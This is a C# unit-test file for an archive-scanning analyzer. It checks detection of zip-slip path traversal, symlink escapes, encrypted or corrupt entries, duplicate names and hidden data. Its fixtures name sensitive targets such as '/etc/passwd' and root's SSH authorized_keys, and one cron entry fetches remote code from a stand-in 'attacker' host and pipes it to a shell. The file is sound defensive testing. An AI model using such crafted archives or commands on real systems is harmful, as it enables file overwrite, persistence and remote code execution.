using Gatehouse.Analysis.Pipeline;
using static Gatehouse.Analysis.Tests.Artifacts.ArchiveSamples;

namespace Gatehouse.Analysis.Tests.Artifacts;

public sealed class ZipSafetyTests
{
    [Theory]
    [InlineData("../evil.sh")]
    [InlineData("lib/../../evil.sh")]
    [InlineData("/etc/cron.d/evil")]
    [InlineData("C:/Windows/System32/evil.dll")]
    [InlineData("c:evil.dll")]
    [InlineData("..\\evil.sh")]
    [InlineData("lib\\evil.sh")]
    [InlineData("evil\0.sh")]
    [InlineData("evil\u0007.sh")]
    public async Task A_zip_slip_entry_name_is_reported_as_path_traversal(string name)
    {
        var zip = new ZipBuilder().Add("ok.txt", "fine").Add(name, "payload").ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Of("archive.path-traversal"));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal("GH-FILE-2", finding.RequirementId);
        Assert.Equal("archive", finding.AnalyzerId);
        Assert.StartsWith("app.zip!/", finding.Path, StringComparison.Ordinal);
        Assert.DoesNotContain(finding.Path, c => char.IsControl(c));
        if (!name.Any(char.IsControl)) Assert.DoesNotContain('\\', finding.Path); // shown with forward slashes
    }

    [Fact]
    public async Task A_traversal_entry_is_still_scanned_under_a_walker_chosen_temp_name()
    {
        var zip = new ZipBuilder().Add("../../evil.sh", "payload").ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var file = Assert.Single(result.Files);
        Assert.Equal("app.zip!/../../evil.sh", file.Path);
        Assert.Equal("payload"u8.ToArray(), file.Content);
        Assert.Empty(result.LeftoverTempFiles);
    }

    [Fact]
    public async Task An_entry_with_the_encrypted_flag_is_reported_and_not_extracted()
    {
        var zip = new ZipBuilder().Add("secret.bin", "ciphertext", new ZipEntrySpec { Flags = 1 }).ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.encrypted", finding.RuleId);
        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.Equal("app.zip!/secret.bin", finding.Path);
        Assert.Empty(result.Files);
    }

    [Fact]
    public async Task A_truncated_zip_is_reported_as_corrupt()
    {
        var zip = Zip(("a.txt", Utf8("hello world")), ("b.txt", Utf8("second")));

        var result = await Walk.RunAsync(zip[..^30], "app.zip");

        Assert.Contains(result.Of("archive.corrupt"), f => f.Path == "app.zip" && f.Message.StartsWith("truncated", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_unreadable_archive_rejects_and_its_salvaged_members_are_still_scanned()
    {
        // What we cannot unpack, a customer's tool may still open: we never pass bytes we could not read (issue 15).
        var zip = Zip(("a.txt", Utf8("hello world")), ("b.txt", Utf8("second")));
        var cut = zip.AsSpan().IndexOf("PK\u0001\u0002"u8);

        var result = await Walk.RunAsync(zip[..cut], "app.zip");

        var corrupt = result.Of("archive.corrupt").ToList();
        Assert.NotEmpty(corrupt);
        Assert.All(corrupt, f => Assert.Equal(Severity.High, f.Severity));
        var (verdict, _) = Gatehouse.Analysis.Verdicts.VerdictRules.Decide(corrupt, [new Gatehouse.Analysis.Verdicts.AnalyzerRun("archive", "1.1.0", "ok")], Policy.Default, null, new HashSet<string>());
        Assert.Equal(Gatehouse.Analysis.Verdicts.Verdict.Reject, verdict);
        Assert.Equal(["app.zip!/a.txt", "app.zip!/b.txt"], result.Files.Select(f => f.Path));
    }

    [Fact]
    public async Task Members_of_a_zip_without_its_central_directory_are_salvaged_from_local_headers_and_scanned()
    {
        var zip = Zip(("a.txt", Utf8("hello world")), ("b.txt", Utf8("second")));
        var cut = zip.AsSpan().IndexOf("PK\u0001\u0002"u8); // drop the whole central directory

        var result = await Walk.RunAsync(zip[..cut], "app.zip");

        Assert.Contains(result.Of("archive.corrupt"), f => f.Message.StartsWith("salvaged", StringComparison.Ordinal));
        Assert.Equal(["app.zip!/a.txt", "app.zip!/b.txt"], result.Files.Select(f => f.Path));
        Assert.Equal(Utf8("second"), result.Content("app.zip!/b.txt"));
    }

    [Fact]
    public async Task A_member_whose_crc_does_not_match_is_reported_as_corrupt()
    {
        var zip = new ZipBuilder().Add("a.txt", "hello", new ZipEntrySpec { CrcOverride = 0xDEADBEEF }).ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.corrupt", finding.RuleId);
        Assert.Equal("app.zip!/a.txt", finding.Path);
        Assert.Contains("CRC", finding.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("name")]
    [InlineData("compression method")]
    [InlineData("sizes")]
    public async Task A_local_header_that_disagrees_with_the_central_directory_is_reported_as_corrupt(string field)
    {
        var spec = field switch
        {
            "name" => new ZipEntrySpec { LocalName = "b.txt" },
            "compression method" => new ZipEntrySpec { LocalMethod = 0 },
            _ => new ZipEntrySpec { LocalUncompressedSize = 1 },
        };
        var zip = new ZipBuilder().Add("a.txt", "hello hello hello", spec).ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Of("archive.corrupt"));
        Assert.Equal("app.zip!/a.txt", finding.Path);
        Assert.Contains(field, finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Two_concatenated_zips_are_reported_as_corrupt()
    {
        var first = Zip(("a.txt", Utf8("first")));
        var second = Zip(("b.txt", Utf8("second")));

        var result = await Walk.RunAsync([.. first, .. second], "app.zip");

        Assert.Contains(result.Of("archive.corrupt"), f => f.Path == "app.zip" && f.Message.Contains("concatenated", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Data_after_the_end_of_central_directory_is_reported_as_corrupt()
    {
        var zip = Zip(("a.txt", Utf8("first")));

        var result = await Walk.RunAsync([.. zip, .. Utf8("<script>hidden</script>")], "app.zip");

        Assert.Contains(result.Of("archive.corrupt"), f => f.Path == "app.zip" && f.Message.Contains("after the end", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Two_entries_with_the_same_name_are_reported_as_duplicates()
    {
        var zip = new ZipBuilder().Add("lib/app.js", "good()").Add("lib/app.js", "evil()").ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.duplicate-entry", finding.RuleId);
        Assert.Equal("app.zip!/lib/app.js", finding.Path);
        Assert.Equal(2, result.Files.Count); // both copies are scanned
    }

    [Fact]
    public async Task A_zip64_archive_member_reaches_onFile_with_its_bytes()
    {
        var content = Utf8("zip64 member content " + new string('x', 5000));
        var zip = new ZipBuilder()
            .Add("readme.txt", "hi", new ZipEntrySpec { Zip64 = true })
            .Add("data/payload.bin", content, new ZipEntrySpec { Zip64 = true })
            .ToArray(zip64: true);

        var result = await Walk.RunAsync(zip, "big.zip");

        Assert.Empty(result.Findings);
        Assert.Equal(content, result.Content("big.zip!/data/payload.bin"));
        Assert.Equal(Sha256(content), result.Files.Single(f => f.Path == "big.zip!/data/payload.bin").Sha256);
    }

    [Fact]
    public async Task The_test_zip64_writer_produces_archives_the_bcl_reads()
    {
        var zip = new ZipBuilder().Add("a.txt", "alpha", new ZipEntrySpec { Zip64 = true }).ToArray(zip64: true);

        using var archive = new System.IO.Compression.ZipArchive(new MemoryStream(zip));
        using var reader = new StreamReader(Assert.Single(archive.Entries).Open());

        Assert.Equal("alpha", await reader.ReadToEndAsync());
    }

    [Theory]
    [InlineData("/etc/passwd")]
    [InlineData("../../../root/.ssh/authorized_keys")]
    public async Task A_zip_entry_with_unix_symlink_mode_pointing_outside_is_a_link_escape(string target)
    {
        var zip = new ZipBuilder().Add("conf/link", target, new ZipEntrySpec { UnixMode = 0xA000 | 0x1FF, Deflate = false }).ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.link-escape", finding.RuleId);
        Assert.Equal(Severity.Low, finding.Severity);
        Assert.Empty(result.Files); // links are never extracted
    }

    [Fact]
    public async Task A_zip_entry_stored_below_an_earlier_symlink_entry_is_a_link_traversal()
    {
        var zip = new ZipBuilder()
            .Add("conf", "/etc", new ZipEntrySpec { UnixMode = 0xA000 | 0x1FF, Deflate = false })
            .Add("conf/cron.d/job", "* * * * * root curl attacker | sh")
            .ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var traversal = Assert.Single(result.Findings, f => f.RuleId == "archive.link-traversal");
        Assert.Equal(Severity.Critical, traversal.Severity);
        Assert.Equal("app.zip!/conf/cron.d/job", traversal.Path);
    }

    [Fact]
    public async Task A_zip_entry_with_unix_symlink_mode_pointing_inside_is_quiet()
    {
        var zip = new ZipBuilder().Add("lib/current", "../lib/v2/app.so", new ZipEntrySpec { UnixMode = 0xA000 | 0x1FF }).ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        Assert.Empty(result.Findings);
        Assert.Empty(result.Files);
    }

    [Fact]
    public async Task A_zip_entry_with_unix_fifo_mode_is_a_special_file()
    {
        var zip = new ZipBuilder().Add("pipe", "", new ZipEntrySpec { UnixMode = 0x1000 | 0x1A4 }).ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        Assert.Equal("archive.special-file", Assert.Single(result.Findings).RuleId);
    }

    [Fact]
    public async Task A_crx3_extension_is_walked_past_its_header()
    {
        var zip = Zip(("manifest.json", Utf8("{\"manifest_version\":3}")));
        var header = new byte[12 + 5];
        "Cr24"u8.CopyTo(header);
        header[4] = 3;
        header[8] = 5; // header_size: 5 bytes of (fake) protobuf
        var crx = header.Concat(zip).ToArray();

        var result = await Walk.RunAsync(crx, "ext.crx");

        Assert.Empty(result.Findings);
        Assert.Equal("{\"manifest_version\":3}"u8.ToArray(), result.Content("ext.crx!/manifest.json"));
    }

    [Fact]
    public async Task An_unsupported_compression_method_is_reported_rather_than_skipped_silently()
    {
        var zip = new ZipBuilder().Add("a.txt", "hello", new ZipEntrySpec { LocalMethod = 99 }).ToArray();
        // Make the central record agree, so only the method itself is the problem.
        var patched = (byte[])zip.Clone();
        var central = IndexOf(patched, [0x50, 0x4B, 0x01, 0x02]);
        patched[central + 10] = 99;

        var result = await Walk.RunAsync(patched, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.corrupt", finding.RuleId);
        Assert.Contains("method 99", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Findings_have_stable_fingerprints_across_rescans()
    {
        var zip = new ZipBuilder().Add("../evil.sh", "x").ToArray();

        var first = await Walk.RunAsync(zip, "app.zip");
        var second = await Walk.RunAsync(zip, "app.zip");

        Assert.Equal(first.Findings.Single().Fingerprint, second.Findings.Single().Fingerprint);
        Assert.Matches("^[0-9a-f]{32}$", first.Findings.Single().Fingerprint);
    }

    [Fact]
    public async Task Entry_data_running_past_the_central_directory_is_reported_and_not_extracted()
    {
        var zip = new ZipBuilder().Add("a.txt", "hello").ToArray();
        var central = IndexOf(zip, [0x50, 0x4B, 0x01, 0x02]);
        BitConverter.TryWriteBytes(zip.AsSpan(central + 20), 0x00FFFFFFu); // compressed size

        var result = await Walk.RunAsync(zip, "app.zip");

        Assert.Contains(result.Of("archive.corrupt"), f => f.Path == "app.zip!/a.txt" && f.Message.StartsWith("out-of-bounds", StringComparison.Ordinal));
        Assert.Empty(result.Files);
    }

    [Fact]
    public async Task Bytes_between_entries_that_belong_to_no_entry_are_reported_as_hidden_data()
    {
        var zip = new ZipBuilder().Add("a.txt", "hello").AddRaw(Utf8("MZ hidden payload")).Add("b.txt", "world").ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.corrupt", finding.RuleId);
        Assert.StartsWith("hidden-data", finding.Message, StringComparison.Ordinal);
        Assert.Equal(2, result.Files.Count);
    }

    [Fact]
    public async Task A_directory_entry_that_carries_data_is_reported_as_corrupt()
    {
        var zip = new ZipBuilder().Add("assets/", "MZ this would be dropped by extractors").ToArray();

        var result = await Walk.RunAsync(zip, "app.zip");

        var finding = Assert.Single(result.Findings);
        Assert.Equal("archive.corrupt", finding.RuleId);
        Assert.StartsWith("directory-with-data", finding.Message, StringComparison.Ordinal);
    }

    private static int IndexOf(byte[] data, byte[] pattern) => data.AsSpan().IndexOf(pattern);
}
